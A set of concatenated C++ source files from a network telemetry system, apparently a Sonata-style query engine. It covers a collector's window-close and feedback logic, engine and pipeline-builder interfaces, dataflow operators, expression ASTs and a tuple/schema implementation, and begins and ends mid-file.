    sp_->deliver_raw_batch(sb.raws);
    sb.records.clear();
    sb.raws.clear();
  }
  std::uint64_t mask = full_mask();
  std::uint64_t peer_dropped = 0;
  for (std::uint16_t i = 0; i < cfg_.nodes; ++i) {
    NodeState& node = nodes_[i];
    ws.packets += node.packets;
    ws.tuples_to_sp += node.tuples_to_sp;
    ws.raw_mirror_packets += node.raw_mirror;
    peer_dropped += node.peer_dropped_cum;
    // Frames lost since the node's last barrier mean its contribution this
    // window is incomplete: clear its shards' bits, close partial (PR 5's
    // degradation surface, fed by real wire loss).
    if (endpoint_->reassembly().stats(i).lost > node.lost_baseline) {
      for (std::size_t s = i; s < cfg_.switches && s < 64; s += cfg_.nodes) {
        mask &= ~(1ull << s);
      }
    }
  }
  ws.contribution_mask = mask;
  ws.partial = mask != full_mask();
  // 2. Fold polled register partials and feed the SP (poll phase).
  combine_partials(ws);
  // 3. Coarse-to-fine close. No local switches — the winner sink captures
  //    every install, and the nodes replay them before their next window.
  //    control_update_millis stays 0: the modelled install latency is paid
  //    on the switch nodes, inside the next window's barrier wait.
  winner_installs_.clear();
  sp_->close_levels(ws, {});
  // 4. Feedback: winners + ack per node (cached for retransmission).
  const bool was_partial = ws.partial;
  for (std::uint16_t i = 0; i < cfg_.nodes; ++i) {
    NodeState& node = nodes_[i];
    node.feedback.clear();
    const std::size_t max_payload = nt::max_frame_payload(endpoint_->kind());
    std::uint64_t chunk_seq = 0;
    nt::Frame cur;
    bool open = false;
    std::uint32_t count = 0;
    std::vector<std::byte> install;
    auto flush = [&]() {
      if (!open) return;
      patch_u32(cur.payload, 8, count);
      node.feedback.push_back(std::move(cur));
      cur = nt::Frame{};
      open = false;
      count = 0;
    };
    for (const auto& [table, keys] : winner_installs_) {
      install.clear();
      put_u16(install, static_cast<std::uint16_t>(table.size()));
      for (const char c : table) install.push_back(static_cast<std::byte>(c));
      put_u32(install, static_cast<std::uint32_t>(keys.size()));
      for (const Tuple& key : keys) {
        std::vector<std::byte> enc;
        encode_tuple(key, enc);
        put_u32(install, static_cast<std::uint32_t>(enc.size()));
        install.insert(install.end(), enc.begin(), enc.end());
      }
      // 12 = the kWinners chunk header (window u64 + count u32). An
      // install that cannot fit even an empty chunk would go out as an
      // oversized frame (EMSGSIZE on UDP, a wedged shm ring): hard error.
      if (12 + install.size() > max_payload) {
        return "winner install for table '" + table +
               "' exceeds the transport's max frame payload";
      }
      if (open && cur.payload.size() + install.size() > max_payload) flush();
      if (!open) {
        cur.type = nt::FrameType::kWinners;
        cur.source = i;
        cur.seq = chunk_seq++;
        put_u64(cur.payload, window_counter_);
        put_u32(cur.payload, 0);
        open = true;
      }
      cur.payload.insert(cur.payload.end(), install.begin(), install.end());
      ++count;
    }
    flush();
    nt::Frame ack;
    ack.type = nt::FrameType::kWindowAck;
    ack.source = i;
    put_u64(ack.payload, window_counter_);
    put_u32(ack.payload, static_cast<std::uint32_t>(node.feedback.size()));
    put_u8(ack.payload, was_partial ? 1 : 0);
    node.feedback.push_back(std::move(ack));
    send_feedback(node, i);
    node.feedback_window = window_counter_;
    node.lost_baseline = endpoint_->reassembly().stats(i).lost;
    node.end_seen = false;
    if (node.final_flag) node.done = true;
    node.packets = 0;
    node.tuples_to_sp = 0;
    node.raw_mirror = 0;
  }
  stats_.peer_dropped = peer_dropped;
  stats_.lost_frames = endpoint_->reassembly().totals().lost;
  ++window_counter_;
  ++stats_.windows;
  publish_obs();
  if (ws.partial) {
    SONATA_WARN("collector",
                "window %llu closed PARTIAL: contribution_mask=0x%llx lost_frames=%llu",
                static_cast<unsigned long long>(ws.window_index),
                static_cast<unsigned long long>(ws.contribution_mask),
                static_cast<unsigned long long>(stats_.lost_frames));
  }
  if (on_window) on_window(ws);
  return "";
}

void Collector::send_feedback(NodeState& node, std::uint16_t index) {
  for (const nt::Frame& fb : node.feedback) {
    if (!endpoint_->send_to(index, fb)) {
      // The bundle stays cached: the node's kWindowEnd retransmit triggers
      // a re-send, and the barrier timeout bounds a persistent failure.
      SONATA_WARN("collector", "feedback send to node %u failed (frame type %u)",
                  static_cast<unsigned>(index), static_cast<unsigned>(fb.type));
    }
  }
}

void Collector::publish_obs() {
  if (!obs::enabled()) return;
  const nt::TransportCounters& tc = endpoint_->counters();
  counter_add("sonata_net_rx_frames_total", tc.rx_frames, tc_pub_.rx_frames);
  counter_add("sonata_net_rx_bytes_total", tc.rx_bytes, tc_pub_.rx_bytes);
  counter_add("sonata_net_tx_frames_total", tc.tx_frames, tc_pub_.tx_frames);
  counter_add("sonata_net_tx_bytes_total", tc.tx_bytes, tc_pub_.tx_bytes);
  counter_add("sonata_net_frame_decode_errors_total", tc.decode_errors, tc_pub_.decode_errors);
  const nt::ReassemblyStats totals = endpoint_->reassembly().totals();
  counter_add("sonata_net_delivered_total", totals.delivered, rs_pub_.delivered);
  counter_add("sonata_net_lost_total", totals.lost, rs_pub_.lost);
  counter_add("sonata_net_reordered_total", totals.reordered, rs_pub_.reordered);
  counter_add("sonata_net_resynced_total", totals.resynced, rs_pub_.resynced);
  counter_add("sonata_net_duplicates_total", totals.duplicates, rs_pub_.duplicates);
  counter_add("sonata_net_record_decode_failures_total", stats_.decode_failures,
              obs_pub_.decode_failures);
  counter_add("sonata_net_peer_dropped_total", stats_.peer_dropped, obs_pub_.peer_dropped);
  // Per-node loss as gauges (cumulative values, set not added).
  auto& reg = obs::Registry::global();
  for (std::uint16_t i = 0; i < cfg_.nodes; ++i) {
    const std::pair<std::string_view, std::string> labels[] = {{"node", std::to_string(i)}};
    reg.gauge(obs::labeled("sonata_net_node_lost", labels))
        .set(static_cast<std::int64_t>(endpoint_->reassembly().stats(i).lost));
  }
}

}  // namespace sonata::runtime
