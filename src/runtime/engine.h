// The unified driver interface.
//
// Every execution driver — single-switch `Runtime`, serial or parallel
// `Fleet` — is a TelemetryEngine: packets go in via ingest(), windows close
// via close_window(), and run_trace() provides the shared trace-replay
// window loop. Tools, examples, benchmarks and tests program against this
// interface.
//
// Engines are built with EngineBuilder, which owns the whole setup story:
// topology, batching, fault injection, training traffic, tenants, and the
// initially admitted queries. The builder hands the admitted queries to
// the engine's ControlPlane, so query lifetime is the engine's problem —
// callers no longer keep a "base query" vector alive on the side.
//
// Admitted queries are dynamic: submit() and withdraw() stage control-plane
// mutations that take effect at the next window boundary (close_window
// swaps in a freshly versioned plan there — never mid-window, so every
// window is bit-exact under exactly one plan version). Admission can fail:
// per-tenant switch budgets make rejection real, and the structured
// AdmissionDiagnostic says which constraint bound and what budget would
// have admitted the query.
#pragma once

#include <cstddef>
#include <cstdint>
#include <memory>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "fault/fault.h"
#include "net/packet.h"
#include "planner/incremental.h"
#include "planner/planner.h"
#include "runtime/stream_processor.h"
#include "util/expected.h"

namespace sonata::runtime {

class ControlPlane;

// Handle for a dynamically admitted query (engine-scoped).
using QueryHandle = planner::AdmitId;

class TelemetryEngine {
 public:
  TelemetryEngine();  // out-of-line: ControlPlane is incomplete here
  virtual ~TelemetryEngine();

  // Ingest one packet into the current window (routing to a data plane is
  // driver-specific).
  virtual void ingest(const net::Packet& packet) = 0;

  // Close the current window: poll registers, merge at the stream
  // processor, refine, reset — then apply any pending control-plane
  // submissions/withdrawals by swapping in a new plan version (the window
  // barrier is the only point a plan changes). Returns the window's
  // aggregated stats; stats.plan_version is the version that processed the
  // window, stats.plan_swapped reports a swap happened after it.
  WindowStats close_window();

  // -- dynamic query control plane --------------------------------------
  // Stage a query submission/withdrawal; it takes effect at the next
  // close_window(). Engines built without a control plane (directly
  // constructed Runtime/Fleet) reject with kNoControlPlane.
  [[nodiscard]] util::Expected<QueryHandle, planner::AdmissionDiagnostic> submit(
      query::Query q, std::string_view tenant = {});
  [[nodiscard]] util::Expected<util::Ok, planner::AdmissionDiagnostic> withdraw(QueryHandle h);
  [[nodiscard]] ControlPlane* control_plane() noexcept { return control_.get(); }
  [[nodiscard]] const ControlPlane* control_plane() const noexcept { return control_.get(); }

  // -- stats accessors --------------------------------------------------
  [[nodiscard]] virtual const planner::Plan& plan() const noexcept = 0;
  [[nodiscard]] virtual std::size_t data_plane_count() const noexcept = 0;
  [[nodiscard]] virtual const pisa::Switch& data_plane(std::size_t i) const = 0;
  [[nodiscard]] virtual const Emitter& emitter() const noexcept = 0;

  // Batch interface: process one window's packets and close the window.
  WindowStats process_window(std::span<const net::Packet> packets);

  // Replay a whole trace, splitting it into windows by the plan's window
  // size. Returns per-window stats.
  std::vector<WindowStats> run_trace(std::span<const net::Packet> trace);

 protected:
  // Driver-specific window close (the old close_window bodies).
  virtual WindowStats do_close_window() = 0;
  // Swap `plan` in at a window barrier: rebuild the switch program(s) —
  // reusing unchanged compiled pipelines — and the stream executors.
  virtual void apply_plan(planner::Plan plan) = 0;

 private:
  friend class EngineBuilder;
  std::unique_ptr<ControlPlane> control_;
};

// Builds a TelemetryEngine: single-switch Runtime for {switches == 1,
// worker_threads == 0}, a (possibly parallel) Fleet otherwise.
//
//   auto engine = runtime::EngineBuilder()
//                     .topology(4, 2)
//                     .faults(spec)
//                     .training(trace)
//                     .tenant("ops", {.stage_tables = 8, .register_bits = 1 << 20})
//                     .admit(queries::full_catalog(th, w))
//                     .admit(extra_query, "ops")
//                     .build();
//
// build() plans the admitted set over the training traffic and returns the
// engine, or the AdmissionDiagnostic of the first rejected query. The
// engine owns the admitted queries (storage lives in its ControlPlane).
class EngineBuilder {
 public:
  EngineBuilder();
  ~EngineBuilder();
  EngineBuilder(EngineBuilder&&) noexcept;
  EngineBuilder& operator=(EngineBuilder&&) noexcept;

  EngineBuilder& topology(std::size_t switches, std::size_t worker_threads = 0);
  // Data-path handoff granularity (DESIGN.md "Data-path memory model");
  // bit-identical output for every value, 1 = legacy per-packet path.
  EngineBuilder& batch(std::size_t batch_size);
  // Deterministic fault injection (DESIGN.md "Fault model & degradation").
  EngineBuilder& faults(fault::FaultSpec spec);
  // Pin fleet workers to cores (round-robin over the process's allowed
  // set); no effect on the single-switch Runtime or with 0 worker threads.
  EngineBuilder& pin_workers(bool pin);
  EngineBuilder& planner(planner::PlannerConfig cfg);
  // Training traffic for the planner's cost estimators (required).
  EngineBuilder& training(std::span<const net::Packet> packets);
  EngineBuilder& training_windows(std::vector<planner::TupleWindow> windows);
  // Define a tenant budget (may be referenced by later admit calls).
  EngineBuilder& tenant(std::string_view name, planner::TenantBudget budget);
  // Queries to admit at build time ("" = the unlimited default tenant).
  EngineBuilder& admit(query::Query q, std::string_view tenant = {});
  EngineBuilder& admit(std::vector<query::Query> queries, std::string_view tenant = {});

  // Plan, build the driver, attach the control plane. Fails with the first
  // rejected submission's diagnostic (or kValidation when no training
  // traffic was provided).
  [[nodiscard]] util::Expected<std::unique_ptr<TelemetryEngine>, planner::AdmissionDiagnostic>
  build();

  // Plan without building a driver — the distributed deployment's entry
  // point, where every role (switch node, collector) derives the identical
  // plan from the same seed/queries/training traffic and then deploys only
  // its half. The returned ControlPlane owns the admitted queries' storage
  // and must outlive every use of the plan.
  struct PlannedSetup {
    std::unique_ptr<ControlPlane> control;
    planner::Plan plan;
  };
  [[nodiscard]] util::Expected<PlannedSetup, planner::AdmissionDiagnostic> plan_only();

 private:
  struct Pending {
    query::Query q;
    std::string tenant;
  };
  std::size_t switches_ = 1;
  std::size_t worker_threads_ = 0;
  std::size_t batch_size_ = 256;
  bool pin_workers_ = false;
  fault::FaultSpec faults_;
  planner::PlannerConfig planner_;
  std::vector<planner::TupleWindow> windows_;
  bool have_training_ = false;
  std::vector<std::pair<std::string, planner::TenantBudget>> tenants_;
  std::vector<Pending> pending_;
};

}  // namespace sonata::runtime
