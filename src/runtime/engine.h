// The unified driver interface.
//
// Every execution driver — single-switch `Runtime`, serial or parallel
// `Fleet` — is a TelemetryEngine: packets go in via ingest(), windows close
// via close_window(), and run_trace() provides the shared trace-replay
// window loop. Tools, examples, benchmarks and tests program against this
// interface; `make_engine` picks the driver from topology options so
// callers never hard-code one.
#pragma once

#include <cstddef>
#include <cstdint>
#include <memory>
#include <span>
#include <vector>

#include "fault/fault.h"
#include "net/packet.h"
#include "planner/planner.h"
#include "runtime/stream_processor.h"

namespace sonata::runtime {

class TelemetryEngine {
 public:
  virtual ~TelemetryEngine() = default;

  // Ingest one packet into the current window (routing to a data plane is
  // driver-specific).
  virtual void ingest(const net::Packet& packet) = 0;

  // Close the current window: poll registers, merge at the stream
  // processor, refine, reset. Returns the window's aggregated stats.
  virtual WindowStats close_window() = 0;

  // -- stats accessors --------------------------------------------------
  [[nodiscard]] virtual const planner::Plan& plan() const noexcept = 0;
  [[nodiscard]] virtual std::size_t data_plane_count() const noexcept = 0;
  [[nodiscard]] virtual const pisa::Switch& data_plane(std::size_t i) const = 0;
  [[nodiscard]] virtual const Emitter& emitter() const noexcept = 0;

  // Batch interface: process one window's packets and close the window.
  WindowStats process_window(std::span<const net::Packet> packets);

  // Replay a whole trace, splitting it into windows by the plan's window
  // size. Returns per-window stats.
  std::vector<WindowStats> run_trace(std::span<const net::Packet> trace);
};

// Topology options for make_engine.
struct EngineOptions {
  std::size_t switches = 1;        // ingress switches sharing the plan
  std::size_t worker_threads = 0;  // fleet workers; 0 = run in the caller
  // Data-path handoff granularity (DESIGN.md "Data-path memory model"):
  // packets move parser -> pipelines -> stream processor in runs of this
  // size. Output is bit-identical for every value; 1 is the legacy
  // per-packet path, kept as the equivalence baseline.
  std::size_t batch_size = 256;
  // Deterministic fault injection (DESIGN.md "Fault model & degradation");
  // default = none, and every hook is a null check when disabled. Worker
  // stalls and the watchdog need a Fleet (switches > 1 or worker_threads
  // > 0); wire and register faults apply to every driver.
  fault::FaultSpec faults;
};

// Build the right driver for a topology: a single-switch Runtime for
// {switches == 1, worker_threads == 0}, a (possibly parallel) Fleet
// otherwise. The plan's base queries must outlive the engine.
[[nodiscard]] std::unique_ptr<TelemetryEngine> make_engine(planner::Plan plan,
                                                           const EngineOptions& opts = {});

}  // namespace sonata::runtime
