// Shared switch-program builder for every driver.
//
// Runtime and Fleet used to duplicate the compile-and-collect loop that
// turns a planner::Plan into installable pipelines; this helper is the
// single copy, and it adds partial recompilation: pipelines handed back
// from the previous program (Switch::release_pipelines) are reused — after
// a runtime-state reset — whenever their compile key (query, source, level,
// partition, sizing, hash seed, and the exact augmented chain) is
// unchanged. On a control-plane swap only the admitted/withdrawn queries'
// pipelines are recompiled; everything else is carried over.
#pragma once

#include <cstdint>
#include <memory>
#include <vector>

#include "pisa/switch.h"
#include "planner/planner.h"

namespace sonata::runtime {

struct PipelineBuild {
  std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> pipelines;
  std::vector<pisa::ProgramResources> resources;
  std::uint64_t recompiled = 0;
  std::uint64_t reused = 0;
};

// Fault-injection knobs applied at compile time (initial installs only;
// control-plane swaps install clean).
struct PipelineBuildOptions {
  std::size_t register_shrink = 1;  // divide register entries (register pressure)
  std::uint64_t hash_seed = 0;      // adversarial register hash seed
};

// Compile `plan`'s installed pipelines (partition > 0) in plan order,
// reusing matching entries from `reusable` (consumed). Publishes
// sonata_pipelines_{recompiled,reused}_total when observability is on.
[[nodiscard]] PipelineBuild build_pipelines(
    const planner::Plan& plan,
    std::vector<std::unique_ptr<pisa::CompiledSwitchQuery>> reusable,
    const PipelineBuildOptions& opts = {});

}  // namespace sonata::runtime
