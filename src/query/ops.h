// Dataflow operators (paper §2.1): filter, map, distinct, reduce — plus the
// dynamic-refinement filter (`filter_in`) that the query planner injects and
// the runtime repopulates between windows (paper §4.1, Figure 4).
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "query/expr.h"
#include "query/tuple.h"

namespace sonata::query {

enum class OpKind : std::uint8_t { kFilter, kFilterIn, kMap, kDistinct, kReduce };

[[nodiscard]] std::string_view to_string(OpKind k) noexcept;

enum class ReduceFn : std::uint8_t { kSum, kMax, kMin, kBitOr };

[[nodiscard]] std::string_view to_string(ReduceFn f) noexcept;

struct NamedExpr {
  std::string name;
  ExprPtr expr;
};

struct Operator {
  OpKind kind = OpKind::kFilter;

  // kFilter: keep tuples where predicate evaluates non-zero.
  ExprPtr predicate;

  // kFilterIn: keep tuples whose projected key is in a runtime-updated set
  // (a match-action table whose entries the runtime installs at the end of
  // each window with the previous refinement level's output).
  std::vector<ExprPtr> match_exprs;
  std::string table_name;  // identifies the table for runtime updates

  // kMap: replace the tuple with the projected columns.
  std::vector<NamedExpr> projections;

  // kReduce: group by `keys`, fold `value_col` with `fn`. The aggregate
  // keeps the value column's name. distinct takes no parameters.
  std::vector<std::string> keys;
  ReduceFn fn = ReduceFn::kSum;
  std::string value_col;

  [[nodiscard]] bool stateful() const noexcept {
    return kind == OpKind::kDistinct || kind == OpKind::kReduce;
  }

  // Schema transformation. On error returns the input schema and sets *err.
  [[nodiscard]] Schema output_schema(const Schema& in, std::string* err) const;

  [[nodiscard]] std::string to_string() const;

  // -- factories ------------------------------------------------------
  static Operator filter(ExprPtr pred);
  static Operator filter_in(std::vector<ExprPtr> match, std::string table_name);
  static Operator map(std::vector<NamedExpr> projections);
  static Operator distinct();
  static Operator reduce(std::vector<std::string> keys, ReduceFn fn, std::string value_col);
};

}  // namespace sonata::query
