// Expression AST for filter predicates and map projections.
//
// Expressions are *structured* (not opaque lambdas) so that the data-plane
// compiler can decide which of them a PISA switch can execute and translate
// them to match-action rules (paper §3.1.2). Anything the switch cannot
// express — division by non-powers-of-two, payload scans — is flagged
// non-compilable and forces the partition point earlier in the pipeline.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <string>

#include "query/tuple.h"
#include "query/value.h"

namespace sonata::query {

enum class BinOp : std::uint8_t {
  kAdd, kSub, kMul, kDiv, kMod,
  kBitAnd, kBitOr, kShl, kShr,
  kEq, kNe, kLt, kLe, kGt, kGe,
  kAnd, kOr,
};

[[nodiscard]] std::string_view to_string(BinOp op) noexcept;

struct Expr;
using ExprPtr = std::shared_ptr<const Expr>;

struct Expr {
  enum class Kind : std::uint8_t {
    kCol,              // column reference by name
    kConst,            // literal value
    kBin,              // binary operation
    kIpPrefix,         // ipv4 prefix mask: keep top `level` bits
    kDnsPrefix,        // dns name truncation: keep last `level` labels
    kPayloadContains,  // substring search in a string column (stream-only)
  };

  Kind kind = Kind::kConst;
  std::string col;       // kCol: column name
  Value constant;        // kConst
  BinOp op = BinOp::kAdd;
  ExprPtr lhs, rhs;      // kBin
  ExprPtr arg;           // kIpPrefix / kDnsPrefix / kPayloadContains
  int level = 32;        // prefix bits or label count
  std::string keyword;   // kPayloadContains

  // -- factories ------------------------------------------------------
  static ExprPtr column(std::string name);
  static ExprPtr lit(std::uint64_t v);
  static ExprPtr lit(std::string s);
  static ExprPtr bin(BinOp op, ExprPtr l, ExprPtr r);
  static ExprPtr ip_prefix(ExprPtr a, int bits);
  static ExprPtr dns_prefix(ExprPtr a, int labels);
  static ExprPtr payload_contains(ExprPtr a, std::string keyword);

  // -- analysis -------------------------------------------------------
  // Validates column references and type use against `schema`; returns an
  // error message or empty string when well-formed.
  [[nodiscard]] std::string validate(const Schema& schema) const;

  [[nodiscard]] ValueKind result_kind(const Schema& schema) const;
  // Metadata bit width of the result when carried on the switch.
  [[nodiscard]] int result_bits(const Schema& schema) const;

  // Can a PISA switch evaluate this expression (given the columns of
  // `schema` are already in the PHV)?  See file comment for the rules.
  [[nodiscard]] bool switch_compilable(const Schema& schema) const;

  [[nodiscard]] std::string to_string() const;

  // Appends the names of all columns this expression references.
  void collect_columns(std::vector<std::string>& out) const;

  // -- evaluation -----------------------------------------------------
  // Binds column references to indices in `schema` and returns a fast
  // evaluator. Booleans are represented as uint 0/1.
  using Evaluator = std::function<Value(const Tuple&)>;
  [[nodiscard]] Evaluator bind(const Schema& schema) const;
};

// Convenience builders so queries read close to the paper's syntax.
namespace dsl {
inline ExprPtr col(std::string name) { return Expr::column(std::move(name)); }
inline ExprPtr lit(std::uint64_t v) { return Expr::lit(v); }
inline ExprPtr lit(std::string s) { return Expr::lit(std::move(s)); }
inline ExprPtr operator+(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kAdd, a, b); }
inline ExprPtr operator-(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kSub, a, b); }
inline ExprPtr operator*(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kMul, a, b); }
inline ExprPtr operator/(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kDiv, a, b); }
inline ExprPtr operator%(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kMod, a, b); }
inline ExprPtr operator&(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kBitAnd, a, b); }
inline ExprPtr operator==(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kEq, a, b); }
inline ExprPtr operator!=(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kNe, a, b); }
inline ExprPtr operator<(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kLt, a, b); }
inline ExprPtr operator<=(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kLe, a, b); }
inline ExprPtr operator>(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kGt, a, b); }
inline ExprPtr operator>=(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kGe, a, b); }
inline ExprPtr operator&&(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kAnd, a, b); }
inline ExprPtr operator||(ExprPtr a, ExprPtr b) { return Expr::bin(BinOp::kOr, a, b); }
}  // namespace dsl

}  // namespace sonata::query
