// Tuples and schemas.
//
// A Tuple is one row flowing through a dataflow pipeline; a Schema names
// its columns and records each column's kind and bit width (widths drive
// the PHV-metadata accounting, constraint C5 of the planner's ILP).
//
// Tuple values live in a small-buffer vector (ValueVec): the rows the hot
// path manufactures per packet — filter-table keys, map projections,
// reduce keys, key reports — have at most four values and stay inline in
// the Tuple itself, so the data path allocates nothing for them. Wider
// rows (the materialized source tuple with one value per registered
// field) spill to the heap exactly once.
#pragma once

#include <cassert>
#include <cstddef>
#include <cstdint>
#include <initializer_list>
#include <optional>
#include <span>
#include <stdexcept>
#include <string>
#include <string_view>
#include <utility>
#include <vector>

#include "query/value.h"

namespace sonata::query {

struct Column {
  std::string name;
  ValueKind kind = ValueKind::kUint;
  // Width in bits when carried as switch metadata. String columns use a
  // fixed budget (e.g. 256 for a DNS name); payloads are not carriable.
  int bits = 32;

  friend bool operator==(const Column&, const Column&) = default;
};

class Schema {
 public:
  Schema() = default;
  explicit Schema(std::vector<Column> cols) : cols_(std::move(cols)) {}

  [[nodiscard]] std::size_t size() const noexcept { return cols_.size(); }
  [[nodiscard]] bool empty() const noexcept { return cols_.empty(); }
  [[nodiscard]] const Column& at(std::size_t i) const { return cols_.at(i); }
  [[nodiscard]] const std::vector<Column>& columns() const noexcept { return cols_; }

  // Index of a column by name; nullopt if absent.
  [[nodiscard]] std::optional<std::size_t> index_of(std::string_view name) const noexcept;

  // Total bits to carry this schema as switch metadata.
  [[nodiscard]] int total_bits() const noexcept;

  void add(Column c) { cols_.push_back(std::move(c)); }

  [[nodiscard]] std::string to_string() const;

  friend bool operator==(const Schema&, const Schema&) = default;

 private:
  std::vector<Column> cols_;
};

// Small-buffer vector of Values: up to kInlineCapacity elements live inside
// the object, larger rows move to the heap. Supports the std::vector subset
// the operators use.
class ValueVec {
 public:
  static constexpr std::size_t kInlineCapacity = 4;

  using value_type = Value;
  using iterator = Value*;
  using const_iterator = const Value*;

  ValueVec() noexcept : data_(inline_slots()), size_(0), cap_(kInlineCapacity) {}
  ValueVec(std::initializer_list<Value> init) : ValueVec() {
    reserve(init.size());
    for (const Value& v : init) unchecked_push(v);
  }
  explicit ValueVec(std::vector<Value> v) : ValueVec() {
    reserve(v.size());
    for (Value& x : v) unchecked_push(std::move(x));
  }
  ValueVec(const ValueVec& o) : ValueVec() {
    reserve(o.size_);
    for (std::size_t i = 0; i < o.size_; ++i) unchecked_push(o.data_[i]);
  }
  ValueVec(ValueVec&& o) noexcept : ValueVec() { steal(std::move(o)); }
  ValueVec& operator=(const ValueVec& o) {
    if (this == &o) return *this;
    clear();
    reserve(o.size_);
    for (std::size_t i = 0; i < o.size_; ++i) unchecked_push(o.data_[i]);
    return *this;
  }
  ValueVec& operator=(ValueVec&& o) noexcept {
    if (this == &o) return *this;
    clear();
    release_heap();
    steal(std::move(o));
    return *this;
  }
  ~ValueVec() {
    clear();
    release_heap();
  }

  [[nodiscard]] std::size_t size() const noexcept { return size_; }
  [[nodiscard]] bool empty() const noexcept { return size_ == 0; }
  [[nodiscard]] std::size_t capacity() const noexcept { return cap_; }
  // True while the elements still live inside the Tuple (no heap spill).
  [[nodiscard]] bool is_inline() const noexcept { return data_ == inline_slots(); }

  [[nodiscard]] Value* data() noexcept { return data_; }
  [[nodiscard]] const Value* data() const noexcept { return data_; }
  [[nodiscard]] iterator begin() noexcept { return data_; }
  [[nodiscard]] iterator end() noexcept { return data_ + size_; }
  [[nodiscard]] const_iterator begin() const noexcept { return data_; }
  [[nodiscard]] const_iterator end() const noexcept { return data_ + size_; }

  [[nodiscard]] Value& operator[](std::size_t i) noexcept { return data_[i]; }
  [[nodiscard]] const Value& operator[](std::size_t i) const noexcept { return data_[i]; }
  [[nodiscard]] Value& at(std::size_t i) {
    if (i >= size_) throw std::out_of_range("ValueVec::at");
    return data_[i];
  }
  [[nodiscard]] const Value& at(std::size_t i) const {
    if (i >= size_) throw std::out_of_range("ValueVec::at");
    return data_[i];
  }
  [[nodiscard]] Value& front() noexcept { return data_[0]; }
  [[nodiscard]] const Value& front() const noexcept { return data_[0]; }
  [[nodiscard]] Value& back() noexcept { return data_[size_ - 1]; }
  [[nodiscard]] const Value& back() const noexcept { return data_[size_ - 1]; }

  void push_back(const Value& v) {
    grow_for(size_ + 1);
    unchecked_push(v);
  }
  void push_back(Value&& v) {
    grow_for(size_ + 1);
    unchecked_push(std::move(v));
  }
  template <typename... Args>
  Value& emplace_back(Args&&... args) {
    grow_for(size_ + 1);
    Value* slot = new (static_cast<void*>(data_ + size_)) Value(std::forward<Args>(args)...);
    ++size_;
    return *slot;
  }
  void pop_back() noexcept {
    assert(size_ > 0);
    data_[--size_].~Value();
  }

  void reserve(std::size_t n) { grow_for(n); }
  void clear() noexcept {
    for (std::size_t i = 0; i < size_; ++i) data_[i].~Value();
    size_ = 0;
  }
  void assign(std::size_t n, const Value& v) {
    clear();
    reserve(n);
    for (std::size_t i = 0; i < n; ++i) unchecked_push(v);
  }

  friend bool operator==(const ValueVec& a, const ValueVec& b) noexcept {
    if (a.size_ != b.size_) return false;
    for (std::size_t i = 0; i < a.size_; ++i) {
      if (a.data_[i] != b.data_[i]) return false;
    }
    return true;
  }

 private:
  [[nodiscard]] Value* inline_slots() noexcept {
    return std::launder(reinterpret_cast<Value*>(inline_));
  }
  [[nodiscard]] const Value* inline_slots() const noexcept {
    return std::launder(reinterpret_cast<const Value*>(inline_));
  }

  void unchecked_push(const Value& v) { new (static_cast<void*>(data_ + size_++)) Value(v); }
  void unchecked_push(Value&& v) {
    new (static_cast<void*>(data_ + size_++)) Value(std::move(v));
  }

  void grow_for(std::size_t need) {
    if (need <= cap_) return;
    std::size_t cap = cap_ * 2;
    while (cap < need) cap *= 2;
    auto* fresh = static_cast<Value*>(::operator new(cap * sizeof(Value), std::align_val_t{alignof(Value)}));
    for (std::size_t i = 0; i < size_; ++i) {
      new (static_cast<void*>(fresh + i)) Value(std::move(data_[i]));
      data_[i].~Value();
    }
    release_heap();
    data_ = fresh;
    cap_ = static_cast<std::uint32_t>(cap);
  }

  void release_heap() noexcept {
    if (!is_inline()) {
      ::operator delete(static_cast<void*>(data_), std::align_val_t{alignof(Value)});
    }
    data_ = inline_slots();
    cap_ = kInlineCapacity;
  }

  // Move the contents of `o` into this (which must be empty and inline).
  void steal(ValueVec&& o) noexcept {
    if (o.is_inline()) {
      for (std::size_t i = 0; i < o.size_; ++i) unchecked_push(std::move(o.data_[i]));
      o.clear();
    } else {
      data_ = o.data_;
      size_ = o.size_;
      cap_ = o.cap_;
      o.data_ = o.inline_slots();
      o.size_ = 0;
      o.cap_ = kInlineCapacity;
    }
  }

  Value* data_;
  std::uint32_t size_;
  std::uint32_t cap_;
  alignas(Value) unsigned char inline_[kInlineCapacity * sizeof(Value)];
};

struct Tuple {
  ValueVec values;

  Tuple() = default;
  Tuple(std::initializer_list<Value> v) : values(v) {}
  explicit Tuple(std::vector<Value> v) : values(std::move(v)) {}

  [[nodiscard]] std::size_t size() const noexcept { return values.size(); }
  [[nodiscard]] const Value& at(std::size_t i) const { return values.at(i); }

  [[nodiscard]] std::uint64_t hash() const noexcept {
    std::uint64_t h = 0x531a0badcafeULL;
    for (const auto& v : values) h = util::hash_combine(h, v.hash());
    return h;
  }

  friend bool operator==(const Tuple& a, const Tuple& b) noexcept { return a.values == b.values; }

  [[nodiscard]] std::string to_string() const;
};

// Project a subset of columns (by index) out of a tuple — used for group-by
// keys and join keys.
[[nodiscard]] Tuple project(const Tuple& t, std::span<const std::size_t> idxs);

// Batched Tuple::hash: out[i] = tuples[i].hash(). Runs of consecutive
// all-uint tuples with equal arity are hashed 8 per lane-pass — the
// hash_combine chain runs column-major with each column's mix vectorized
// (util::hash_u64_batch / hash_combine_batch) — and any tuple carrying a
// string value falls back to the scalar hash. Bit-identical to calling
// hash() per tuple for every input, under both dispatch levels.
void hash_tuples(std::span<const Tuple> tuples, std::uint64_t* out) noexcept;

struct TupleHasher {
  std::size_t operator()(const Tuple& t) const noexcept { return t.hash(); }
};

}  // namespace sonata::query
