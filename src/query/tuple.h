// Tuples and schemas.
//
// A Tuple is one row flowing through a dataflow pipeline; a Schema names
// its columns and records each column's kind and bit width (widths drive
